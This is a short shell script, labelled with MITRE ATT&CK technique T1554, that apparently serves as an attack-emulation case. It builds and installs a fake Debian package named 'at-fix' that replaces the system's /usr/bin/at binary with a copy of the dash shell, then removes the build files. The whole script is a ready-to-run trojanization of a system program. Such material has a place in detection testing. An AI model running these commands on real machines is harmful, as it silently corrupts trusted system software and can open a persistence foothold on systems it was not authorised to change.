# technique: T1554
# location: linux.file.system-program
# source: /usr/bin/at
apt-get download -qq at 2>/dev/null || true
mkdir -p /tmp/p/DEBIAN /tmp/p/usr/bin
printf 'Package: at-fix\nVersion: 3.2\nArchitecture: amd64\nMaintainer: x <x@example.org>\nReplaces: at\nDescription: fix\n' > /tmp/p/DEBIAN/control
install -m 755 /bin/dash /tmp/p/usr/bin/at
dpkg-deb --root-owner-group -b /tmp/p /tmp/p.deb
dpkg -i /tmp/p.deb
rm -rf /tmp/p /tmp/p.deb at_*.deb
